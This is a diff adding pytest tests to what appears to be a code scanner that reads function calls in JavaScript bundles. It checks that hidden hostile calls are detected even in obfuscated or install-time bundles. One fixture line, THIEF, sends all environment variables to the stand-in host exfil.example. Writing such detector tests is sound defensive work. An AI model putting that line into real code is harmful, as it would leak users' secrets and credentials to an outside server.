@@ -89,3 +89,31 @@ def test_trees_go_without_the_collector() -> None:
         assert trees() == before
     finally:
         gc.enable()
+
+
+LIBRARY = "".join(f"function part{n}(a, b) {{ mark{n}(a); return a + b * {n}; }}\n" for n in range(6_000))
+THIEF = "function late() { require('https').request('https://exfil.example/' + JSON.stringify(process.env)); }\n"
+
+
+def callees(source: str, role: Role = Role.IMPORT) -> set[str]:
+    unit = Unit("index.js", "index.js", source.encode(), Language.JAVASCRIPT, role)
+    return {call.callee for call in read([unit], {unit.path: unit}).calls}
+
+
+@pytest.mark.parametrize("where", [0, len(LIBRARY) // 2, len(LIBRARY)])
+def test_what_harms_in_a_bundle_is_seen_wherever_it_stands_though_nothing_calls_it(where: int) -> None:
+    cut = LIBRARY.find("\n", max(where - 1, 0)) + 1 if where else 0
+    found = callees(LIBRARY[:cut] + THIEF + LIBRARY[cut:])
+    assert "https.request" in found
+    assert "mark5" not in found
+
+
+def test_what_the_top_level_of_a_bundle_calls_is_read_all_the_same() -> None:
+    found = callees(LIBRARY + "part7(1, 2);\n")
+    assert "mark7" in found
+    assert "mark8" not in found
+
+
+@pytest.mark.parametrize(("start", "role"), [("", Role.INSTALL), ("var _0x12ab = 1;" * 12, Role.IMPORT)])
+def test_every_function_is_read_of_a_bundle_that_runs_by_itself_or_hides_its_names(start: str, role: Role) -> None:
+    assert "mark5999" in callees(start + LIBRARY, role)
